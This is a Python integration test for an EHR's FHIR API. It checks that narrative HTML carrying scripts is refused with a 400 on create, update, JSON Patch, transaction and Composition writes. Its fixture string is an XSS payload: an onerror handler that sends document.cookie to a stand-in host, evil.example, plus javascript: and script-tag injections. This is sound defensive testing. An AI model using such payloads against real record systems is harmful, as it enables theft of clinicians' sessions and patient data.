"""A clinic's token cannot store active content in a narrative the EHR serves to other systems.

Attempted as an attacker holding a clinic nurse's account (the security review of session 25): a
Patient whose ``text.div`` held ``<script>``, an ``onerror`` handler and a ``javascript:`` link was
stored (201) and served back as is to every reader of the record (a hospital HIS, a FHIR viewer
rendering the narrative). Every write path refuses it now with a 400 OperationOutcome naming the div:
create, update, JSON Patch, a transaction's entry, a Composition's section.
"""

from __future__ import annotations

import json

import pytest
from sen_shared.auth import issue_dev_token

from tests.support import app_client

pytestmark = pytest.mark.integration

FJ = "application/fhir+json"
X = 'xmlns="http://www.w3.org/1999/xhtml"'
SCRIPTED = (f'<div {X}><p>Nguyễn Văn An</p><img src="x" onerror="fetch(\'//evil.example/\'+document.cookie)"/>'
            f'<a href="javascript:alert(1)">xem</a></div>')


@pytest.fixture(scope="module")
def ehr(base_env, run_id, mongo_client):
    with app_client("ehr", base_env, f"sen_t{run_id}_ehr_narrative", mongo_client) as (client, _app):
        yield client


@pytest.fixture(scope="module")
def nurse(dev_key):
    token = issue_dev_token(dev_key, "clinic", facility="tyt-my-hiep", practitioner="ys-vo-minh-tam")
    return {"Authorization": f"Bearer {token}", "Content-Type": FJ, "Accept": FJ}


def patient(div=None):
    body = {"resourceType": "Patient", "name": [{"family": "Nguyễn", "given": ["Văn", "An"]}], "gender": "male",
            "birthDate": "1980-05-01", "managingOrganization": {"reference": "Organization/tyt-my-hiep"}}
    if div is not None:
        body["text"] = {"status": "generated", "div": div}
    return body


def refused(r, where):
    assert r.status_code == 400, r.text
    issue = r.json()["issue"][0]
    assert issue["code"] == "invariant" and issue["expression"] == [where], issue
    assert "txt-1" in issue["diagnostics"]


def test_a_narrative_with_a_script_is_refused_on_every_write(ehr, nurse):
    r = ehr.post("/fhir/Patient", content=json.dumps(patient(SCRIPTED)), headers=nurse)
    refused(r, "Patient.text.div")  # failed before: 201, the script stored and served
    assert ehr.get("/fhir/Patient?family=nguyen&_summary=count", headers=nurse).json()["total"] == 0

    created = ehr.post("/fhir/Patient", content=json.dumps(patient(f"<div {X}><p>Nguyễn Văn An</p></div>")),
                       headers=nurse)
    assert created.status_code == 201, created.text
    pid = created.json()["id"]
    r = ehr.put(f"/fhir/Patient/{pid}", content=json.dumps({**patient(SCRIPTED), "id": pid}), headers=nurse)
    refused(r, "Patient.text.div")
    r = ehr.patch(f"/fhir/Patient/{pid}", headers={**nurse, "Content-Type": "application/json-patch+json"},
                  content=json.dumps([{"op": "replace", "path": "/text/div", "value": SCRIPTED}]))
    refused(r, "Patient.text.div")
    bundle = {"resourceType": "Bundle", "type": "transaction", "entry": [
        {"resource": patient(), "request": {"method": "POST", "url": "Patient"}},
        {"resource": {"resourceType": "Observation", "status": "final", "code": {"text": "Huyết áp"},
                      "subject": {"reference": f"Patient/{pid}"},
                      "text": {"status": "generated", "div": f"<div {X}><script>alert(1)</script></div>"}},
         "request": {"method": "POST", "url": "Observation"}}]}
    r = ehr.post("/fhir", content=json.dumps(bundle), headers=nurse)
    assert r.status_code in (400, 422), r.text
    assert r.json()["issue"][0]["expression"] == ["Bundle.entry[1].resource.text.div"]
    composition = {"resourceType": "Composition", "status": "final", "type": {"text": "Biên bản hội chẩn"},
                   "subject": {"reference": f"Patient/{pid}"}, "date": "2026-12-06T08:00:00+07:00",
                   "author": [{"reference": "Practitioner/ys-vo-minh-tam"}], "title": "Biên bản",
                   "section": [{"title": "Kết luận", "text": {"status": "generated", "div": SCRIPTED}}]}
    r = ehr.post("/fhir/Composition", content=json.dumps(composition), headers=nurse)
    refused(r, "Composition.section[0].text.div")

    read = ehr.get(f"/fhir/Patient/{pid}", headers=nurse).json()
    assert read["text"]["div"] == f"<div {X}><p>Nguyễn Văn An</p></div>"  # nothing of the refused writes stored
